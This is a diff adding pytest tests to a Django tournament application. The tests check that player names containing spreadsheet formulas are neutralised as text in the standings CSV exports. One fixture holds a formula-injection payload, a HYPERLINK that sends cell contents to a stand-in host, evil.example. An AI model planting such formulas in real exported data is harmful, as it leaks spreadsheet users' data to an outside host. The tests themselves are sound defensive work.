@@ -5,6 +5,7 @@ access, and a 200-table, 10-round event in a fixed number of queries."""
 import csv
 import datetime
 import io
+import re
 from decimal import Decimal
 
 import pytest
@@ -491,3 +492,36 @@ def test_standings_take_the_same_few_queries_whatever_the_size(
 def test_a_players_night_for_an_id_too_big_for_the_database_is_not_found(director_client, night):
     url = reverse("tournaments:player-night", args=[night.pk, 10**30])
     assert director_client.get(url).status_code == 404
+
+
+# --- Spreadsheet safety -----------------------------------------------------------------------
+
+EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+
+
+@pytest.mark.parametrize(
+    "name", [EVIL, "+1+1", "-2+3", "@SUM(1,1)", "\tTabbed", "\rReturned"], ids=repr
+)
+def test_a_formula_for_a_name_reaches_both_csvs_as_text(director_client, club, world, name):
+    night, nine = world
+    Player.objects.filter(pk=nine["A"].pk).update(name=name)
+    for url in (
+        reverse("tournaments:standings-csv", args=[night.pk]),
+        reverse("tournaments:season-standings", args=[club.slug])
+        + "?start=2026-01-01&end=2026-12-31&format=csv",
+    ):
+        rows = list(csv.reader(io.StringIO(director_client.get(url).content.decode())))
+        cells = [cell for row in rows for cell in row]
+        # The name reads as written after the quote a spreadsheet hides; no cell starts a formula.
+        assert "'" + name in cells
+        assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
+        assert not [c for c in cells if c.startswith("-") and not re.fullmatch(r"-\d+", c)]
+
+
+def test_points_stay_numbers_in_the_csv():
+    from tournaments.standings_views import spreadsheet_safe
+
+    for number in ("-2", "14", "7.3", "7.3*", "-0.5"):
+        assert spreadsheet_safe(number) == number
+    assert spreadsheet_safe("-2-2") == "'-2-2"
+    assert spreadsheet_safe(None) == ""
